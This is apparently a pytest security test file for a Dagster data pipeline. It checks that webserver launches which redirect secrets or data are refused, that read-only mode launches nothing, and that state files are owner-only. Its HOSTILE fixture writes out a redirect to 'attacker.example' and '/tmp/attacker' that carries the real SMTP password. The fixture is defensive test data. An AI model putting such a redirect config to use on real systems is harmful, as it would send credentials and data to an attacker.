"""Nobody in where they don't belong: through the real webserver, a launch cannot redirect the deployment's secrets
or data, and a read-only webserver launches nothing; the warehouse, its backups and the mail are their owner's."""

import os
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from select import select

import dagster as dg
import pytest

from synapse_pipeline.delivery.users import add_user
from synapse_pipeline.settings import PROJECT_ROOT, SMTP_PASSWORD_ENV, embedded_dagster_home
from synapse_pipeline.warehouse.database import make_engine
from synapse_pipeline.warehouse.schema import upgrade_schema
from tests.support import PASSWORD, answers, graphql, kill_processes_mentioning, wait_until

pytestmark = pytest.mark.slow  # real webservers: out of the fast lane

BIN = Path(sys.executable).parent
LAUNCH = """mutation ($params: ExecutionParams!) { launchRun(executionParams: $params) { __typename
    ... on RunConfigValidationInvalid { errors { message } }
    ... on UnauthorizedError { message }
    ... on PythonError { message }
    ... on LaunchRunSuccess { run { runId } } } }"""
SELECTOR = {"repositoryLocationName": "synapse_pipeline", "repositoryName": "__repository__"}
# What an attacker's launch sets: their own server, with the deployment's real password.
HOSTILE = {
    "mailer": {"host": "127.0.0.1", "starttls": False, "password": {"env": SMTP_PASSWORD_ENV}},
    "warehouse": {"url": "postgresql://attacker.example/steal"},
    "export_files": {"data_dir": "/tmp/attacker"},
    "backup_settings": {"directory": "/tmp/attacker"},
}


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@contextmanager
def webserver(env: dict[str, str], *options: str) -> Iterator[int]:
    """`dagster-webserver` on the project's workspace and a temporary instance; yields its port."""
    port = _free_port()
    process = subprocess.Popen(
        [BIN / "dagster-webserver", "-w", "workspace.yaml", "-h", "127.0.0.1", "-p", str(port), *options],
        cwd=PROJECT_ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        wait_until(lambda: answers(port), 180, "the webserver answering")
        yield port
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=60)
        kill_processes_mentioning(env["SYNAPSE_STATE_DIR"])


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.setenv("SYNAPSE_STATE_DIR", str(tmp_path / "state"))
    environment = {
        **{k: v for k, v in os.environ.items() if not k.startswith("SYNAPSE_")},
        "SYNAPSE_STATE_DIR": str(tmp_path / "state"),
        "DAGSTER_HOME": str(embedded_dagster_home()),
        SMTP_PASSWORD_ENV: "the-real-password",
    }
    dg.DagsterInstance.from_config(environment["DAGSTER_HOME"]).dispose()
    return environment


def _launch(port: int, resources: dict[str, dict] | None = None) -> dict:
    """Launch deliver_reports_job (one report, as the delivery sensor asks), its resources set as given."""
    config: dict[str, dict] = {"ops": {"deliver_reports": {"config": {"report_names": ["relatorio-mensal-2025-07"]}}}}
    if resources:
        config["resources"] = {name: {"config": values} for name, values in resources.items()}
    params = {"selector": {**SELECTOR, "jobName": "deliver_reports_job"}, "runConfigData": config}
    return graphql(port, LAUNCH, params=params)["launchRun"]


def test_a_launch_that_redirects_the_mailer_the_warehouse_or_the_folders_is_refused(env: dict[str, str]) -> None:
    with socket.socket() as attacker, webserver(env) as port:
        attacker.bind(("127.0.0.1", 0))
        attacker.listen()
        hostile = {**HOSTILE, "mailer": {**HOSTILE["mailer"], "port": attacker.getsockname()[1]}}
        for name, values in hostile.items():
            refused = _launch(port, {name: values})
            assert refused["__typename"] == "RunConfigValidationInvalid", refused
            messages = " ".join(error["message"] for error in refused["errors"])
            assert f"root:resources:{name}:config" in messages and "unexpected config entr" in messages, messages
        with dg.DagsterInstance.from_config(env["DAGSTER_HOME"]) as instance:
            assert instance.get_runs() == []  # no run was made
        assert select([attacker], [], [], 0)[0] == []  # and nobody knocked at the attacker's server

        # The same launch with nothing of the deployment's in its config is accepted (queued: no daemon here).
        accepted = _launch(port)
        assert accepted["__typename"] == "LaunchRunSuccess", accepted


def test_a_read_only_webserver_launches_nothing(env: dict[str, str]) -> None:
    with webserver(env, "--read-only") as port:
        refused = _launch(port)
        assert refused["__typename"] == "UnauthorizedError", refused
        with dg.DagsterInstance.from_config(env["DAGSTER_HOME"]) as instance:
            assert instance.get_runs() == []


def _modes(folder: Path) -> dict[str, str]:
    return {path.name: oct(path.stat().st_mode & 0o777) for path in sorted(folder.iterdir())}


def test_synapse_run_under_a_permissive_umask_leaves_the_warehouse_backups_and_mail_to_their_owner(
    env: dict[str, str], sample_dir: Path
) -> None:
    state = Path(env["SYNAPSE_STATE_DIR"])
    engine = make_engine(f"sqlite:///{state / 'synapse.db'}")
    upgrade_schema(engine)
    with engine.begin() as conn:
        add_user(conn, username="ana", email="ana@example.com", password=PASSWORD)
    engine.dispose()
    state.chmod(0o755)  # as an older version left them: tightened on first use
    (state / "synapse.db").chmod(0o644)
    for command in ("run", "deliver"):  # the warehouse and its backup, then the mail
        done = subprocess.run(
            [sys.executable, "-m", "synapse_pipeline.cli.main", command],
            cwd=PROJECT_ROOT,
            env={**env, "SYNAPSE_DATA_DIR": str(sample_dir)},
            capture_output=True,
            text=True,
            preexec_fn=lambda: os.umask(0),  # everything anyone may read, unless Synapse says otherwise
        )
        assert done.returncode == 0, done.stdout + done.stderr
    assert oct(state.stat().st_mode & 0o777) == "0o700"
    warehouse = {name: mode for name, mode in _modes(state).items() if name.startswith("synapse.db")}
    assert warehouse and set(warehouse.values()) == {"0o600"}, warehouse
    for folder in ("backups", "outbox"):
        assert oct((state / folder).stat().st_mode & 0o777) == "0o700", folder
        files = _modes(state / folder)
        assert files and set(files.values()) == {"0o600"}, (folder, files)
